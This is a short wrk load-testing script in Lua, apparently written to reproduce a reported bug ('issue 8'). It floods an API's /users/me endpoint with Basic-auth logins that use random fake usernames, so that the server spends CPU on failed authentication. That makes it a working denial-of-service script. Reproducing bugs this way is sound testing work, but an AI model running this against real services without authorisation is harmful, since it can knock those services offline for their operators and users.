-- wrk script: every request is a login with a made-up user name (the anonymous CPU-load attack of issue 8)
local chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

local function base64(s)
  return ((s:gsub(".", function(x)
    local r, b = "", x:byte()
    for i = 8, 1, -1 do r = r .. (b % 2 ^ i - b % 2 ^ (i - 1) > 0 and "1" or "0") end
    return r
  end) .. "0000"):gsub("%d%d%d?%d?%d?%d?", function(x)
    if #x < 6 then return "" end
    local c = 0
    for i = 1, 6 do c = c + (x:sub(i, i) == "1" and 2 ^ (6 - i) or 0) end
    return chars:sub(c + 1, c + 1)
  end) .. ({"", "==", "="})[#s % 3 + 1])
end

local n = 0
request = function()
  n = n + 1
  local name = "nobody-" .. math.random(1, 1000000000) .. "-" .. n
  return wrk.format("GET", "/api/v1/users/me", {["Authorization"] = "Basic " .. base64(name .. ":guess-2026")})
end
